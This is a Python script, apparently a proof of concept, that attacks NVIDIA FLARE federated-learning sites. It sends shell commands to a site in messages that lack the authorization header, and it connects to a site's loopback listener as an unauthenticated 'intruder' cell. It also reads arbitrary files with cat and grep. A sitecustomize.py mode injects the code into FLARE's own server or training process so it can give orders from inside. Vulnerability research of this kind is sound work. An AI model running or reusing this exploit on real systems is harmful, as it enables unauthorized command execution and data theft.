"""What somebody with a foot in FLARE's network does: orders to a site that carry no authorization.

    python flare_attack.py JSON     as a process of its own, through a site's listener on loopback
    sitecustomize.py                a copy of this in an account's Python path: whoever runs FLARE's
                                    server or a site of its own has it give orders from there

Written against FLARE's private modules, as an attacker would. Alone: it imports nothing of ours.
"""

from __future__ import annotations

import json
import os
import shlex
import sys
import threading
import time
from pathlib import Path


def order(cell, site: str, command: str) -> str:
    """A shell command, in a message without the header that would have it checked."""
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message

    request = new_cell_message({}, Message(SysCommandTopic.SHELL, command))
    reply = cell.send_request(
        channel=CellChannel.CLIENT_MAIN, topic=SysCommandTopic.SHELL, target=site, request=request, timeout=8.0
    )
    return str(getattr(reply.payload, "body", f"no answer: {reply.headers}"))


def answers(cell, asked: dict, ways=(["cat"], ["grep", ""])) -> dict[str, list[str]]:
    """For each file, what each way to read it gave."""
    site, files = asked["site"], asked["files"]
    return {file: [order(cell, site, shlex.join([*way, file])) for way in ways] for file in files}


def from_loopback(asked: dict) -> dict[str, list[str]]:
    """As a child of the site, which asks for no key there."""
    from nvflare.fuel.f3.cellnet.cell import Cell

    cell = Cell(
        fqcn=f"{asked['site']}.intruder",
        root_url=None,
        secure=False,
        credentials={},
        create_internal_listener=False,
        parent_url=f"tcp://localhost:{asked['port']}",
    )
    cell.start()
    time.sleep(1.0)
    return answers(cell, asked, (["cat"],))  # FLARE takes seconds for each


def from_within(home: Path) -> None:
    """In FLARE's own process: once there are orders, give them through its connection."""
    while not (home / "orders.json").exists():
        time.sleep(0.2)
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell

    asked = json.loads((home / "orders.json").read_text())
    cell = next(iter(CoreCell.ALL_CELLS.values()))
    (home / "answers.part").write_text(json.dumps(answers(cell, asked)))
    (home / "answers.part").rename(home / "answers.json")


if __name__ == "__main__":
    try:
        sys.stdout.write("RESULT " + json.dumps(from_loopback(json.loads(sys.argv[1]))) + "\n")
    except BaseException as error:
        sys.stdout.write(f"{error!r}\n")
    sys.stdout.flush()
    os._exit(0)  # FLARE's threads would stay
elif __name__ == "sitecustomize" and any(
    word.endswith((".client_train", ".server_train")) for word in sys.orig_argv
):  # not in the workers, which have modules yet to load when orders are there
    threading.Thread(target=from_within, args=(Path(os.environ["HOME"]),), daemon=True).start()
